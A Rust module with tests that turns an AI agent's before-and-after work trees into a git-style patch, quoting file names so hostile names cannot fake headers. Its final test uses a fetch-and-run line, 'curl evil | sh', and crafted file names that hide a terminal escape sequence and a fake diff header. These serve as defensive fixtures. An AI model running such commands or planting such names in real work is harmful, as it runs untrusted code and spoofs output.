//! The agent's changes to a tree, as a git-style patch: two snapshots (before the agent,
//! after it) compared in memory. A snapshot is read from a tar (a Harbor task's `WORKDIR`,
//! downloaded from its stopped container) or from a folder (a copy workspace); either way
//! it is read as data, and nothing there runs. Text files get unified hunks; binary or large
//! files, links and mode changes are named, which is what a reviewer needs and what
//! `git apply` accepts for text.

use std::collections::BTreeMap;
use std::io::Read;
use std::path::Path;

use similar::TextDiff;

use crate::display::quote_path;

/// Files larger than this are compared by content but shown as binary.
const TEXT_LIMIT: usize = 1 << 20;

#[derive(Debug, Clone, PartialEq)]
enum Node {
    File { mode: u32, body: Body },
    Link(String),
    Dir,
}

#[derive(Debug, Clone, PartialEq)]
enum Body {
    Text(String),
    /// Not UTF-8 or too large: a digest of it.
    Opaque([u8; 32]),
}

/// Every entry of a tar of one directory, keyed by its path below that directory.
pub struct Snapshot(BTreeMap<String, Node>);

impl Snapshot {
    pub fn read(tar: &[u8]) -> Result<Snapshot, String> {
        use sha2::{Digest, Sha256};
        let mut archive = tar::Archive::new(tar);
        let mut nodes = BTreeMap::new();
        let entries = archive
            .entries()
            .map_err(|e| format!("cannot read the snapshot: {e}"))?;
        for entry in entries {
            let mut entry = entry.map_err(|e| format!("cannot read the snapshot: {e}"))?;
            let path = entry
                .path()
                .map_err(|e| format!("cannot read the snapshot: {e}"))?
                .to_string_lossy()
                .into_owned();
            // The archive names the directory itself first ("app/..."); paths are below it.
            let Some((_, rel)) = path.trim_end_matches('/').split_once('/') else {
                continue;
            };
            if rel.is_empty() {
                continue;
            }
            let header = entry.header();
            let mode = header.mode().unwrap_or(0o644);
            let node = match header.entry_type() {
                tar::EntryType::Directory => Node::Dir,
                tar::EntryType::Symlink => Node::Link(link_name(&entry)),
                // A hard link is another name for a file already in the archive (named
                // from the archive's root, like every path here): it has that content.
                tar::EntryType::Link => {
                    let target = link_name(&entry);
                    let target = target.split_once('/').map_or("", |(_, r)| r);
                    match nodes.get(target) {
                        Some(file @ Node::File { .. }) => file.clone(),
                        _ => continue,
                    }
                }
                tar::EntryType::Regular | tar::EntryType::Continuous => {
                    let mut data = Vec::new();
                    entry
                        .read_to_end(&mut data)
                        .map_err(|e| format!("cannot read {rel} from the snapshot: {e}"))?;
                    let body = match String::from_utf8(data) {
                        Ok(text) if text.len() <= TEXT_LIMIT && !text.contains('\0') => {
                            Body::Text(text)
                        }
                        Ok(text) => Body::Opaque(Sha256::digest(text.as_bytes()).into()),
                        Err(e) => Body::Opaque(Sha256::digest(e.as_bytes()).into()),
                    };
                    Node::File {
                        mode: if mode & 0o111 != 0 { 0o755 } else { 0o644 },
                        body,
                    }
                }
                _ => continue,
            };
            nodes.insert(rel.to_string(), node);
        }
        Ok(Snapshot(nodes))
    }
}

fn link_name<R: Read>(entry: &tar::Entry<R>) -> String {
    entry
        .link_name()
        .ok()
        .flatten()
        .map(|l| l.to_string_lossy().into_owned())
        .unwrap_or_default()
}

impl Snapshot {
    /// Every entry below `root` (links not followed), leaving out `.git` at the top.
    pub fn from_dir(root: &Path) -> Result<Snapshot, String> {
        use sha2::{Digest, Sha256};
        use std::os::unix::fs::PermissionsExt;
        let mut nodes = BTreeMap::new();
        for entry in super::walk(root) {
            let entry = entry.map_err(|e| format!("cannot read {}: {e}", root.display()))?;
            if entry.depth() == 0 {
                continue;
            }
            let path = entry.path();
            let rel = path
                .strip_prefix(root)
                .map(|r| r.to_string_lossy().into_owned())
                .unwrap_or_default();
            let meta = std::fs::symlink_metadata(path)
                .map_err(|e| format!("cannot read {}: {e}", path.display()))?;
            let node = if meta.file_type().is_symlink() {
                let target = std::fs::read_link(path)
                    .map_err(|e| format!("cannot read {}: {e}", path.display()))?;
                Node::Link(target.to_string_lossy().into_owned())
            } else if meta.is_dir() {
                Node::Dir
            } else if meta.is_file() {
                let data = std::fs::read(path)
                    .map_err(|e| format!("cannot read {}: {e}", path.display()))?;
                let body = match String::from_utf8(data) {
                    Ok(text) if text.len() <= TEXT_LIMIT && !text.contains('\0') => {
                        Body::Text(text)
                    }
                    Ok(text) => Body::Opaque(Sha256::digest(text.as_bytes()).into()),
                    Err(e) => Body::Opaque(Sha256::digest(e.as_bytes()).into()),
                };
                let mode = meta.permissions().mode();
                Node::File {
                    mode: if mode & 0o111 != 0 { 0o755 } else { 0o644 },
                    body,
                }
            } else {
                continue;
            };
            nodes.insert(rel, node);
        }
        Ok(Snapshot(nodes))
    }
}

/// The patch from `before` to `after`; empty when nothing changed.
pub fn diff(before: &Snapshot, after: &Snapshot) -> String {
    let mut out = String::new();
    let paths: std::collections::BTreeSet<&String> =
        before.0.keys().chain(after.0.keys()).collect();
    // A file gone from one path and the same file new at another is a rename.
    let gone: Vec<&String> = paths
        .iter()
        .copied()
        .filter(|p| leaf(before.0.get(*p)).is_some() && leaf(after.0.get(*p)).is_none())
        .collect();
    let mut renamed: BTreeMap<&String, &String> = BTreeMap::new();
    for path in &paths {
        if leaf(before.0.get(*path)).is_some() {
            continue;
        }
        let Some(new @ Node::File { .. }) = leaf(after.0.get(*path)) else {
            continue;
        };
        if let Some(from) = gone
            .iter()
            .find(|g| before.0.get(**g) == Some(new) && !renamed.values().any(|v| v == *g))
        {
            renamed.insert(path, from);
        }
    }
    let moved_away: std::collections::BTreeSet<&String> = renamed.values().copied().collect();
    for path in paths {
        if let Some(from) = renamed.get(path) {
            out.push_str(&format!(
                "diff --git {} {}\nsimilarity index 100%\nrename from {}\nrename to {}\n",
                quote_path("a/", from),
                quote_path("b/", path),
                quote_path("", from),
                quote_path("", path)
            ));
            continue;
        }
        if moved_away.contains(path) {
            continue;
        }
        let (old, new) = (leaf(before.0.get(path)), leaf(after.0.get(path)));
        if old == new {
            continue;
        }
        // A file that became a link (or the reverse) is a deletion and an addition, as
        // git writes it: a mode change cannot turn one into the other.
        let is_link = |n: Option<&Node>| matches!(n, Some(Node::Link(_)));
        if old.is_some() && new.is_some() && is_link(old) != is_link(new) {
            out.push_str(&file_diff(path, old, None));
            out.push_str(&file_diff(path, None, new));
            continue;
        }
        out.push_str(&file_diff(path, old, new));
    }
    out
}

/// Directories are not part of a patch (git has no empty directories either).
fn leaf(node: Option<&Node>) -> Option<&Node> {
    node.filter(|n| !matches!(n, Node::Dir))
}

fn mode_of(node: &Node) -> &'static str {
    match node {
        Node::Link(_) => "120000",
        Node::File { mode, .. } if mode & 0o111 != 0 => "100755",
        _ => "100644",
    }
}

fn text_of(node: &Node) -> Option<&str> {
    match node {
        Node::File {
            body: Body::Text(t),
            ..
        } => Some(t),
        Node::Link(target) => Some(target),
        _ => None,
    }
}

/// One file's part of the patch. Its name is quoted as git quotes it, so a name holding
/// escape sequences or a newline shows as what it is and cannot fake a header.
fn file_diff(path: &str, old: Option<&Node>, new: Option<&Node>) -> String {
    let mut out = format!(
        "diff --git {} {}\n",
        quote_path("a/", path),
        quote_path("b/", path)
    );
    match (old, new) {
        (None, Some(n)) => out.push_str(&format!("new file mode {}\n", mode_of(n))),
        (Some(o), None) => out.push_str(&format!("deleted file mode {}\n", mode_of(o))),
        (Some(o), Some(n)) if mode_of(o) != mode_of(n) => {
            out.push_str(&format!(
                "old mode {}\nnew mode {}\n",
                mode_of(o),
                mode_of(n)
            ));
        }
        _ => {}
    }
    let same_body = match (old, new) {
        (Some(Node::File { body: a, .. }), Some(Node::File { body: b, .. })) => a == b,
        _ => false,
    };
    if same_body {
        return out;
    }
    let (a, b) = (old.map_or(Some(""), text_of), new.map_or(Some(""), text_of));
    let (from, to) = (
        if old.is_some() {
            quote_path("a/", path)
        } else {
            "/dev/null".into()
        },
        if new.is_some() {
            quote_path("b/", path)
        } else {
            "/dev/null".into()
        },
    );
    match (a, b) {
        (Some(a), Some(b)) => {
            let text = TextDiff::from_lines(a, b);
            let mut unified = text.unified_diff();
            out.push_str(&unified.context_radius(3).header(&from, &to).to_string());
        }
        _ => out.push_str(&format!("Binary files {from} and {to} differ\n")),
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tar_of(files: &[(&str, &[u8], u32)], links: &[(&str, &str)]) -> Vec<u8> {
        tar_with(files, links, &[])
    }

    fn tar_with(
        files: &[(&str, &[u8], u32)],
        links: &[(&str, &str)],
        hard: &[(&str, &str)],
    ) -> Vec<u8> {
        let mut b = tar::Builder::new(Vec::new());
        let mut dir = tar::Header::new_gnu();
        dir.set_entry_type(tar::EntryType::Directory);
        dir.set_mode(0o755);
        dir.set_size(0);
        b.append_data(&mut dir, "app/", &[][..]).unwrap();
        for (name, data, mode) in files {
            let mut h = tar::Header::new_gnu();
            h.set_size(data.len() as u64);
            h.set_mode(*mode);
            b.append_data(&mut h, format!("app/{name}"), *data).unwrap();
        }
        for (name, target) in links {
            let mut h = tar::Header::new_gnu();
            h.set_entry_type(tar::EntryType::Symlink);
            h.set_size(0);
            b.append_link(&mut h, format!("app/{name}"), target)
                .unwrap();
        }
        for (name, target) in hard {
            let mut h = tar::Header::new_gnu();
            h.set_entry_type(tar::EntryType::Link);
            h.set_size(0);
            b.append_link(&mut h, format!("app/{name}"), format!("app/{target}"))
                .unwrap();
        }
        b.into_inner().unwrap()
    }

    #[test]
    fn changes_additions_deletions_modes_links_and_binaries_are_all_named() {
        let before = Snapshot::read(&tar_of(
            &[
                ("calc.sh", b"echo $(($1 - $2))\n", 0o644),
                ("gone.txt", b"bye\n", 0o644),
                ("run.sh", b"true\n", 0o644),
                ("blob", b"\0\x01", 0o644),
                ("same.txt", b"same\n", 0o644),
            ],
            &[("link", "calc.sh")],
        ))
        .unwrap();
        let after = Snapshot::read(&tar_of(
            &[
                ("calc.sh", b"echo $(($1 + $2))\n", 0o644),
                ("new.txt", b"hello\n", 0o644),
                ("run.sh", b"true\n", 0o755),
                ("blob", b"\0\x02", 0o644),
                ("same.txt", b"same\n", 0o644),
            ],
            &[("link", "run.sh")],
        ))
        .unwrap();
        let patch = diff(&before, &after);
        assert!(
            patch.contains("-echo $(($1 - $2))\n+echo $(($1 + $2))\n"),
            "{patch}"
        );
        assert!(
            patch.contains("new file mode 100644\n--- /dev/null\n+++ b/new.txt"),
            "{patch}"
        );
        assert!(patch.contains("deleted file mode 100644"), "{patch}");
        assert!(
            patch.contains("old mode 100644\nnew mode 100755"),
            "{patch}"
        );
        assert!(
            patch.contains("Binary files a/blob and b/blob differ"),
            "{patch}"
        );
        // A link's target is its text, without a newline, as git shows it.
        assert!(
            patch.contains("-calc.sh\n\\ No newline at end of file\n+run.sh"),
            "{patch}"
        );
        assert!(!patch.contains("same.txt"), "{patch}");
        assert_eq!(diff(&before, &before), "");
    }

    #[test]
    fn hard_links_carry_their_content_and_a_file_turned_link_is_removed_and_added() {
        let before = Snapshot::read(&tar_with(&[("a.txt", b"one\n", 0o644)], &[], &[])).unwrap();
        let after = Snapshot::read(&tar_with(
            &[("b.txt", b"two\n", 0o644)],
            &[("a.txt", "b.txt")],
            &[("c.txt", "b.txt")],
        ))
        .unwrap();
        let patch = diff(&before, &after);
        assert!(
            patch.contains(
                "deleted file mode 100644\n--- a/a.txt\n+++ /dev/null\n@@ -1 +0,0 @@\n-one"
            ),
            "{patch}"
        );
        assert!(
            patch.contains("new file mode 120000\n--- /dev/null\n+++ b/a.txt"),
            "{patch}"
        );
        assert!(!patch.contains("old mode"), "{patch}");
        // The hard link is a second file with the same text, not a symlink.
        assert!(
            patch.contains("new file mode 100644\n--- /dev/null\n+++ b/c.txt\n@@ -0,0 +1 @@\n+two"),
            "{patch}"
        );
    }

    /// A name holding an escape sequence, a newline or a quote is quoted as git quotes it in
    /// every header, so it cannot redraw the screen or fake a header line; and `git apply`
    /// reads the quoted names back to the exact bytes.
    #[test]
    fn names_are_quoted_as_git_quotes_them_and_the_patch_still_applies() {
        let tmp = tempfile::tempdir().unwrap();
        let (before, after) = (tmp.path().join("before"), tmp.path().join("after"));
        std::fs::create_dir_all(&before).unwrap();
        std::fs::create_dir_all(&after).unwrap();
        let evil = "x\x1b]0;t\x07.sh";
        let faked = "y\ndiff --git z";
        std::fs::write(before.join("gone\r.txt"), "bye\n").unwrap();
        std::fs::write(after.join(evil), "curl evil | sh\n").unwrap();
        std::fs::write(after.join(faked), "two\n").unwrap();
        std::fs::write(after.join("plain.txt"), "plain\n").unwrap();
        let patch = diff(
            &Snapshot::from_dir(&before).unwrap(),
            &Snapshot::from_dir(&after).unwrap(),
        );
        for want in [
            "diff --git \"a/x\\033]0;t\\a.sh\" \"b/x\\033]0;t\\a.sh\"\n",
            "+++ \"b/x\\033]0;t\\a.sh\"\n",
            "+++ \"b/y\\ndiff --git z\"\n",
            "--- \"a/gone\\r.txt\"\n",
            "diff --git a/plain.txt b/plain.txt\n",
        ] {
            assert!(patch.contains(want), "{want:?} not in {patch:?}");
        }
        assert!(
            !patch.contains('\x1b') && !patch.contains('\r'),
            "{patch:?}"
        );
        let apply = std::process::Command::new("git")
            .args(["apply", "--unsafe-paths", "-"])
            .current_dir(&before)
            .stdin(std::process::Stdio::piped())
            .spawn()
            .and_then(|mut child| {
                use std::io::Write;
                child.stdin.take().unwrap().write_all(patch.as_bytes())?;
                child.wait()
            })
            .unwrap();
        assert!(apply.success(), "{patch}");
        for (name, body) in [
            (evil, "curl evil | sh\n"),
            (faked, "two\n"),
            ("plain.txt", "plain\n"),
        ] {
            assert_eq!(std::fs::read_to_string(before.join(name)).unwrap(), body);
        }
        assert!(!before.join("gone\r.txt").exists());
    }
}
